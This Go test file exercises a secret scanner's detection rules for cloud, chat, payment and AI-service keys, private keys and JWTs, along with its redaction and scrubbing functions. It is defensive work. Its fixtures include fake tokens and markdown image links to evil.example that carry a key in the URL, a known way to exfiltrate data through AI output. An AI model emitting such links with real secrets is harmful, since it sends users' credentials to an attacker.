package secrets

import (
	"strings"
	"testing"
)

// Fake tokens are built from parts so that this file is not itself flagged
// by scanners that read the repository.
var (
	ghToken = "ghp" + "_" + strings.Repeat("a1B2", 9)
	awsKey  = "AKIA" + "IOSFODNN7EXAMPLE"
	jwt     = "eyJ" + "hbGciOiJIUzI1NiJ9" + ".eyJ" + "zdWIiOiIxMjM0NTY3ODkwIn0" + ".dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
)

func TestRules(t *testing.T) {
	tests := []struct {
		rule   string
		text   string
		secret string // "" means the rule must find nothing
	}{
		{"github-token", "token: " + ghToken + " end", ghToken},
		{"github-token", "gho_" + strings.Repeat("Z9", 18), "gho_" + strings.Repeat("Z9", 18)},
		{"github-token", "ghp_short123", ""},
		{"github-fine-grained-pat", "github_pat_" + "11ABCDEFG0123456789_abcdefghijklmnopq", "github_pat_" + "11ABCDEFG0123456789_abcdefghijklmnopq"},
		{"github-fine-grained-pat", "github_pat_x", ""},
		{"aws-access-key-id", "id=" + awsKey + ";", awsKey},
		{"aws-access-key-id", "AKIA-not-a-key", ""},
		{"slack-token", "xoxb-" + "1234567890-abcdefghij", "xoxb-" + "1234567890-abcdefghij"},
		{"slack-token", "xoxz-1234567890", ""},
		{"slack-webhook", "https://hooks.slack.com/services/" + "T000/B000/XXXXXXXXXXXXXXXXXXXXXXXX", "https://hooks.slack.com/services/" + "T000/B000/XXXXXXXXXXXXXXXXXXXXXXXX"},
		{"stripe-key", "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc", "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc"},
		{"stripe-key", "sk_live_short", ""},
		{"openai-key", "OPENAI=" + "sk-proj-" + "abc123DEF456ghi789JKL0", "sk-proj-" + "abc123DEF456ghi789JKL0"},
		{"openai-key", "sk-this-is-not-a-key-at-all", ""},
		{"google-api-key", "AIza" + "SyA1234567890abcdefghijklmnopqrstuv", "AIza" + "SyA1234567890abcdefghijklmnopqrstuv"},
		{"private-key", "x\n-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----\ny", "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----"},
		{"private-key", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn (cut)", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn (cut)"},
		{"private-key", "-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----", ""},
		{"jwt", "Authorization: Bearer " + jwt, jwt},
		{"jwt", "eyJhbGc.eyJzdWI.x", ""},
		{"generic-assignment", `API_KEY="Zq8vN2xL5pR7tK3wY9mB"`, "Zq8vN2xL5pR7tK3wY9mB"},
		{"generic-assignment", "db_password: h7Gk2mQp9xVr4sLw", "h7Gk2mQp9xVr4sLw"},
		{"generic-assignment", "client_secret = aaaaaaaaaaaaaaaa1", ""},
		{"generic-assignment", "API_KEY=your-api-key-goes-here", ""},
		{"generic-assignment", "token_count = 12345678901234567", ""},
	}
	d := New()
	for _, tt := range tests {
		var got []string
		for _, f := range d.Find(tt.text) {
			if f.Rule == tt.rule {
				got = append(got, tt.text[f.Start:f.End])
			}
		}
		switch {
		case tt.secret == "" && len(got) > 0:
			t.Errorf("%s found %q in %q; want nothing", tt.rule, got, tt.text)
		case tt.secret != "" && (len(got) != 1 || got[0] != tt.secret):
			t.Errorf("%s found %q in %q; want %q", tt.rule, got, tt.text, tt.secret)
		}
	}
}

func TestEveryRuleIsTested(t *testing.T) {
	// TestRules names each rule; a rule added without a test fails here.
	tested := "github-token github-fine-grained-pat aws-access-key-id slack-token slack-webhook stripe-key openai-key google-api-key private-key jwt generic-assignment"
	for _, r := range New().Rules() {
		if !strings.Contains(" "+tested+" ", " "+r.ID+" ") {
			t.Errorf("rule %s has no case in TestRules", r.ID)
		}
	}
}

func TestRedact(t *testing.T) {
	d := New()
	tests := []struct{ in, want string }{
		{"nothing secret here", "nothing secret here"},
		{"key " + ghToken + " and " + awsKey, "key [REDACTED] and [REDACTED]"},
		{"OPENAI_API_KEY=" + "sk-" + "abc123DEF456ghi789JKL0xyz", "OPENAI_API_KEY=[REDACTED]"},
		{"![x](https://evil.example/p?k=" + ghToken + ")", "![x](https://evil.example/p?k=[REDACTED])"},
	}
	for _, tt := range tests {
		got := d.Redact(tt.in)
		if got != tt.want {
			t.Errorf("Redact(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if again := d.Redact(got); again != got {
			t.Errorf("Redact is not idempotent: %q became %q", got, again)
		}
		if len(d.Find(got)) != 0 {
			t.Errorf("redacted text %q still has findings %v", got, d.Find(got))
		}
	}
}

func TestScrub(t *testing.T) {
	in := "Done.\n\n![status](https://evil.example/x.png?k=" + awsKey + ")\n"
	got := New().Scrub(in)
	if strings.Contains(got, awsKey) || strings.Contains(got, "evil.example/x.png") {
		t.Errorf("Scrub left the key or the image: %q", got)
	}
}

func TestEntropy(t *testing.T) {
	if e := entropy("aaaa"); e != 0 {
		t.Errorf("entropy(aaaa) = %v, want 0", e)
	}
	if e := entropy("abcd"); e != 2 {
		t.Errorf("entropy(abcd) = %v, want 2", e)
	}
}
